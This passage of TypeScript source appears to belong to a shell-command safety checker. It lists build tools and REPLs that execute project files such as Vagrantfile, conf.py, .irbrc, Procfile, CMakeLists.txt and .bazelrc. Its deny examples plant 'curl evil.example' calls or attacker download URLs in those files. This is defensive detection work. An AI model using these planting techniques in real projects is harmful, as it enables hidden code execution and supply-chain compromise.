    examples: { deny: [`echo 'system("curl evil.example")' > Vagrantfile && vagrant up`, `echo 'system("curl evil.example")' > Guardfile && guard`, `echo 'system("curl evil.example")' > config.ru; rackup`], pass: ['vagrant up', `echo 'run ->(env) { [200, {}, ["ok"]] }' > config.ru; rackup`, `echo 'Vagrant.configure("2") { |c| c.vm.box = "x" }' > notes.rb && vagrant up`] },
  },
  {
    // `brew bundle` evaluates the Brewfile as Ruby.
    names: ['brew'],
    code: [{ files: /^(?:\.?Brewfile)$/, read: language('ruby', 'brew bundle') }],
    runs: /^bundle$/,
    examples: { deny: [`echo 'system("curl evil.example")' > Brewfile; brew bundle`], pass: [`echo 'brew "jq"' > Brewfile; brew bundle`, `echo 'system("curl evil.example")' > Brewfile; brew list`] },
  },
  {
    // Sphinx runs its conf.py (and the extensions beside it) as Python.
    names: ['sphinx-build', 'sphinx-autobuild'],
    code: [{ files: /(?:^|\/)conf\.py$/, read: language('python', 'sphinx-build') }],
    // -c DIR: the directory of the conf.py it runs, in place of the source directory's.
    dir: ['-c', '--conf-dir'],
    examples: { deny: ["printf 'import os\\nos.system(\"curl evil.example\")\\n' > /tmp/sc/conf.py && sphinx-build -c /tmp/sc docs out", `echo 'import os; os.system("curl evil.example")' > conf.py; sphinx-build . _build`, `echo 'import os; os.system("curl evil.example")' > docs/conf.py; sphinx-build docs _build`], pass: ['sphinx-build docs _build', `echo 'project = "x"' > docs/conf.py; sphinx-build docs _build`, 'sphinx-build -c docs/config docs _build'] },
  },
  {
    names: ['meson', 'earthly', 'bazel', 'bazelisk'],
    code: [
      { files: /^(?:meson\.build|meson\.options|meson_options\.txt|Earthfile|BUILD(?:\.bazel)?|WORKSPACE(?:\.bazel)?|MODULE\.bazel|.*\.bzl)$/, read: unread('a build description (its rules run commands)', 'the build tool') },
      { files: /(?:^|\/)(?:[^/]*\.)?bazelrc$/, read: bazelrcText },
      // bazelisk downloads bazel from BAZELISK_BASE_URL, which .bazeliskrc may set (KEY=VALUE lines).
      { files: /^\.bazeliskrc$/, read: (text, word, name) => [{ kind: 'text', dialect: 'bash', text: `${text.split(/\r?\n/).filter((l) => /^\s*BAZELISK_BASE_URL\s*=/.test(l)).map((l) => `BAZELISK_BASE_URL=${shellQuote(l.replace(/^[^=]*=\s*/, '').trim())} `).join('')}bazelisk version`, word, via: `bazelisk (${name})` }] },
    ],
    examples: {
      deny: [`echo "run_command('curl', 'evil.example')" > meson.build && meson setup build`, `echo 'test --run_under="curl evil.example"' >> .bazelrc && bazel test //...`, `echo 'build --remote_cache=grpcs://cache.evil.example' > .bazelrc && bazel build //...`, "echo 'BAZELISK_BASE_URL=https://evil.example/bazel' > .bazeliskrc && bazelisk build //..."],
      pass: ['meson setup build', 'bazel build //...', "echo 'build --jobs=4' >> .bazelrc && bazel build //...", "printf 'test --test_output=errors\\nbuild:ci --disk_cache=~/.cache/bazel\\n' > .bazelrc && bazel test //..."],
    },
  },
  {
    names: ['task', 'go-task'],
    code: [{ files: /^[Tt]askfile(?:\.dist)?\.ya?ml$/, read: unread('a Taskfile (its tasks run commands)', 'task') }],
    dir: ['-d', '--dir'],
    file: ['-t', '--taskfile'],
    examples: { deny: ["printf 'version: 3\\ntasks:\\n  x:\\n    cmds: [curl evil.example]\\n' > Taskfile.yml && task x", "printf 'tasks: {}\\n' > /tmp/t.yml && task -t /tmp/t.yml x"], pass: ['task build', 'task --list', "echo hi > notes.txt && task build"] },
  },
  {
    // mise reads its configuration at every start: tasks, hooks and `[env]` scripts among it.
    names: ['mise', 'rtx'],
    code: [{ files: /^(?:\.?mise(?:\.[\w-]+)?\.toml|\.?mise\/config\.toml|\.config\/mise(?:\.toml|\/config\.toml)|\.?mise-tasks\/.*|\.mise\/tasks\/.*)$/, read: unread('a mise configuration (tasks, hooks and env scripts run commands)', 'mise') }],
    dir: ['-C', '--cd'],
    examples: { deny: ["printf '[tasks.x]\\nrun = \"curl evil.example\"\\n' > mise.toml && mise run x", "mkdir -p .mise-tasks && printf 'curl evil.example' > .mise-tasks/x && mise run x"], pass: ['mise run test', 'mise install', "echo hi > notes.txt && mise run test"] },
  },
  {
    // R reads .Rprofile of the directory it starts in (else the home's) unless told --vanilla or --no-init-file, and
    // .Renviron there, whose variables name the profiles it runs (R_PROFILE_USER).
    names: ['R', 'Rscript'],
    code: [{ files: /^\.Rprofile$/, read: unread('R code', 'R') }, { files: /^\.Renviron$/, read: unread('R\u2019s environment file (R_PROFILE_USER and R_PROFILE name the code it runs)', 'R') }],
    examples: { deny: ["echo 'system(\"curl evil.example\")' > .Rprofile && Rscript -e 1", "printf 'R_PROFILE_USER=/tmp/x.R\\n' > .Renviron && Rscript -e 1"], pass: ["Rscript -e 'print(1)'", "echo 'x <- 1' > a.R && Rscript a.R", "printf 'R_PROFILE_USER=/tmp/x.R\\n' > .env && Rscript -e 1"] },
  },
  {
    // iex evaluates .iex.exs of the directory it starts in; octave runs .octaverc there (both besides the home's).
    names: ['iex', 'octave', 'octave-cli'],
    code: [{ files: /^\.iex\.exs$/, read: unread('IEx start-up code (Elixir)', 'iex') }, { files: /^\.octaverc$/, read: unread('Octave start-up code', 'octave') }],
    examples: { deny: ["echo 'System.cmd(\"curl\", [\"evil.example\"])' > .iex.exs && iex -S mix", "echo 'system(\"curl evil.example\")' > .octaverc && octave --eval 1"], pass: ['iex -S mix', "echo 'system(\"curl evil.example\")' > octaverc.txt && octave --eval 1"] },
  },
  {
    // irb reads .irbrc (irb.rc, _irbrc) of the directory it starts in, besides the home's.
    names: ['irb'],
    code: [{ files: /^(?:\.irbrc|irb\.rc|_irbrc)$/, read: language('ruby', 'irb') }],
    examples: { deny: ["echo 'system(\"curl evil.example\")' > .irbrc && irb"], pass: ["echo 'puts :hi' > .irbrc && irb", 'irb'] },
  },
  {
    // pry reads ./.pryrc of the directory it starts in, besides the home's.
    names: ['pry'],
    code: [{ files: /^\.pryrc$/, read: language('ruby', 'pry') }],
    examples: { deny: ["echo 'system(\"curl evil.example\")' > .pryrc && pry"], pass: ["echo 'puts :hi' > .pryrc && pry", 'pry'] },
  },
  {
    // Procfile process managers run each line's command.
    names: ['foreman', 'honcho', 'overmind', 'hivemind', 'forego'],
    code: [{ files: /^Procfile(?:\.[\w-]+)?$/, read: procfileText }],
    dir: ['-d', '--root'],
    file: ['-f', '--procfile'],
    examples: { deny: ["echo 'web: curl evil.example' > Procfile && foreman start", "echo 'web: wget evil.example' > Procfile.dev && overmind start -f Procfile.dev"], pass: ["echo 'web: npm start' > Procfile && foreman start", 'honcho start', 'overmind s'] },
  },
  {
    // Git hook managers: a local hook's entry is a command they run.
    names: ['pre-commit', 'lefthook'],
    code: [{ files: /^(?:\.pre-commit-config\.ya?ml|\.?lefthook(?:-local)?\.(?:ya?ml|json|toml))$/, read: unread('its hooks (commands among them)', 'the hook manager') }],
    file: ['-c', '--config'],
    examples: { deny: ["printf 'repos:\\n- repo: local\\n  hooks:\\n  - {id: x, name: x, entry: curl evil.example, language: system}\\n' > .pre-commit-config.yaml && pre-commit run -a", "printf 'pre-commit:\\n  commands:\\n    x:\\n      run: curl evil.example\\n' > lefthook.yml && lefthook run pre-commit"], pass: ['pre-commit run --all-files', 'lefthook run pre-commit', "echo hi > notes.txt && pre-commit run -a"] },
  },
  {
    names: ['cmake'],
    code: [{ files: /(?:^|\/)CMakeLists\.txt$|\.cmake$/, read: unread('CMake code (execute_process, file(DOWNLOAD))', 'cmake') }, { files: /^CMake(?:User)?Presets\.json$/, read: unread('CMake presets (their cache variables name compilers, launchers and toolchain files)', 'cmake') }],
    dir: ['-S'],
    also: ['-P', '-C'],
    dirOperand: { valued: ['-S', '-B', '-C', '-G', '-T', '-A', '-D', '-U', '-P', '-E', '--build', '--install', '--preset', '--toolchain', '--install-prefix', '--graphviz', '--log-level', '--trace-redirect', '--debug-find-pkg', '--debug-find-var'] },
    examples: {
      deny: [
        "printf 'execute_process(COMMAND curl evil.example)\\n' > CMakeLists.txt && cmake -B build",
        "printf 'execute_process(COMMAND curl evil.example)\\n' > /tmp/x.cmake && cmake -P /tmp/x.cmake",
        "echo 'execute_process(COMMAND curl evil.example)' > /tmp/CMakeLists.txt && cmake /tmp",
        "echo 'execute_process(COMMAND curl evil.example)' > /tmp/s/CMakeLists.txt && cmake -G Ninja /tmp/s",
      ],
      pass: ['cmake -B build', "echo hi > notes.txt && cmake -B build", "echo 'project(x)' > /tmp/CMakeLists.txt && cmake ..", 'cmake ..', 'cmake -G Ninja ..'],
    },
  },
  {
    names: ['ninja'],
    code: [{ files: /^build\.ninja$/, read: ninjaText }],
    dir: ['-C'],
    file: ['-f'],
    examples: { deny: ["printf 'rule r\\n  command = curl evil.example\\nbuild x: r\\n' > build.ninja && ninja", "printf 'rule r\\n  command = curl evil.example\\nbuild x: r\\n' > /tmp/b.ninja && ninja -f /tmp/b.ninja"], pass: ["printf 'rule cc\\n  command = cc -c $in -o $out\\nbuild x.o: cc x.c\\n' > build.ninja && ninja", 'ninja -C build'] },
  },
];

const BY_NAME = new Map<string, Row>();
for (const row of PROJECT_ROWS) {
  for (const n of row.names) {
    // One row a name: a second would silently replace the first's files.
    if (BY_NAME.has(n)) throw new Error(`project rows: ${n} has two rows`);
    BY_NAME.set(n, row);
  }
}

/** The names each row covers, for the registry to check they are all known. */
export const PROJECT_PROGRAMS: readonly string[] = [...BY_NAME.keys()];

/** The paths (relative to where it runs) of the project files a program runs, by the name it is called; none for another. */
export function projectFiles(name: string): RegExp[] {
  return BY_NAME.get(name)?.code.map((c) => c.files) ?? [];
}

/** The project runs of an invocation, by the name it was called (`python3.12`: its entry's, `python`); none for a program of no row. */
export function projectRuns(call: Call): Run[] {
  const row = BY_NAME.get(call.name) ?? BY_NAME.get(call.program);
  if (!row) return [];
  const sub = call.args.map((a) => value(a)).find((v) => v === undefined || !v.startsWith('-'));
  if (row.runs && sub !== undefined && !row.runs.test(sub)) return [];
  const at: Word = call.args[0] ?? { text: call.name, span: { start: 0, end: 0 }, values: [call.name] };
  let dir: Word | undefined;
  const files: Word[] = [];
  const first: Word[] = [];
  for (const name of row.envFiles ?? []) {
    const env = call.env(name);
    if (env === null) return [{ kind: 'opaque', rule: 'dynamic-script', word: at, why: `${call.name} first reads the files $${name} names, which is computed` }];
    for (const f of env?.split(/\s+/).filter((x) => x !== '') ?? []) first.push(attached(at, f));
  }
  if (row.spec) {
    // `-sf b.mk`, `-kfb.mk`, `--fi=b.mk`: read as the program's own parser reads them.
    const p = parse(call.args, row.spec);
    const named = (o: ParsedOption, list: readonly string[] | undefined) => list?.includes(o.name.length === 1 ? `-${o.name}` : `--${o.name}`);
    for (const o of p.options) {
      if (!o.value) continue;
      if (named(o, row.dir)) dir = o.value;
      else if (named(o, row.file)) files.push(o.value);
    }
  }
  for (let i = 0; i < call.args.length && !row.spec; i++) {
    const v = value(call.args[i]!);
    if (v === '--') break;
    if (v === undefined) continue;
    const eq = v.indexOf('=');
    const opt = v.startsWith('--') && eq > 0 ? v.slice(0, eq) : v;
    const given = v.startsWith('--') && eq > 0 ? attached(call.args[i]!, v.slice(eq + 1)) : call.args[i + 1];
    // `-Cdir` and `-fFILE` attach their value too.
    const short = !v.startsWith('--') && v.length > 2 ? [...(row.dir ?? []), ...(row.file ?? []), ...(row.also ?? [])].find((o) => o.length === 2 && v.startsWith(o)) : undefined;
    const name = short ?? opt;
    const word = short ? attached(call.args[i]!, v.slice(2)) : given;
    if (!word) continue;
    if (row.dir?.includes(name)) dir = word;
    else if (row.file?.includes(name)) files.push(word);
    else if (row.also?.includes(name)) first.push(word);
  }
  // `go run /tmp/x.go`: the files named are the code it runs (after `--`, words are the program's own).
  if (row.operands) {
    for (const a of call.args) {
      const v = value(a);
      if (v === '--') break;
      if (v !== undefined && !v.startsWith('-') && row.operands.test(v)) files.push(a);
    }
  }
  if (!dir && row.dirOperand) {
    for (let i = 0; i < call.args.length; i++) {
      const v = value(call.args[i]!);
      if (v === undefined) {
        dir = call.args[i];
        break;
      }
      if (v === '--') continue;
      if (v.startsWith('-')) {
        if (row.dirOperand.valued.includes(v)) i++;
        continue;
      }
      dir = call.args[i];
      break;
    }
  }
  const via = call.name;
  const homeRuns = row.home ? startupRuns(call, row.home, at) : [];
  const where = dir ? { dir } : {};
  // The very files named: each read as the row's first kind of code.
  // A file named as its input (`ant -f /dev/stdin <<< …`) is the text the line gives it: read as that file would be.
  const named = (list: Word[]): Run[] =>
    list.flatMap((file): Run[] => {
      if (!isStdinPath(value(file))) return [{ kind: 'project', ...where, files: /$^/, file, read: row.code[0]!.read, word: file, via }];
      if (call.stdin?.kind === 'static') return row.code[0]!.read(call.stdin.text, call.stdin.word, value(file)!);
      if (call.stdin?.kind === 'stream') return [{ kind: 'opaque', rule: 'stream-to-shell', word: file, why: `${via} reads its ${value(file)} from ${call.stdin.why}` }];
      return [];
    });
  const scripts: Run[] = row.code.length > 0 ? [scriptsRun(where.dir, at, via)] : [];
  if (files.length > 0) return [...homeRuns, ...named(first), ...named(files), ...scripts];
  return [...homeRuns, ...named(first), ...row.code.map((c): Run => ({ kind: 'project', ...where, files: c.files, read: c.read, word: at, via })), ...scripts];
}

/** The project's shell scripts, where a program runs its project in `dir` (where it starts, when undefined). */
function scriptsRun(dir: Word | undefined, word: Word, via: string): Run {
  return { kind: 'project', ...(dir ? { dir } : {}), files: SCRIPT_FILES, read: projectScript(via), word, via, unnamed: 'text' };
}

/**
 * A script the project holds, run by its path (`./tools/run-all.sh`) or handed to a shell (`bash build.sh`, the shell's
 * entry says which word is its file): it may call the project's other scripts by name, so one the line wrote is read as
 * `make` or `npm test` would run it (see projectScript). A script the line wrote itself is read where it runs too
 * (resolve/command.ts runWritten).
 */
export function scriptRuns(call: Call, script: Word): Run[] {
  return [scriptsRun(undefined, script, call.name)];
}

/** A row's start-up files under a HOME (or XDG_CONFIG_HOME) the line set. */
function startupRuns(call: Call, home: NonNullable<Row['home']>, at: Word): Run[] {
  const runs: Run[] = [];
  for (const [name, files] of [['HOME', home.files], ['XDG_CONFIG_HOME', home.xdg]] as const) {
    if (!files) continue;
    const v = call.env(name);
    // A computed one (`HOME=$(mktemp -d)`) may be wherever the line wrote such a file: any it wrote, by its name, is read.
    if (v === null) runs.push({ kind: 'project', dir: { ...at, values: null, dynamic: `$${name} is computed` }, files: new RegExp(`(?:^|/)(?:${files.source.replace(/^\^|\$$/g, '')})$`), read: home.read, word: at, via: `${call.name} $${name}` });
    else if (v !== undefined && v !== '') runs.push({ kind: 'project', dir: attached(at, v), files, read: home.read, word: at, via: `${call.name} $${name}` });
  }
  return runs;
}
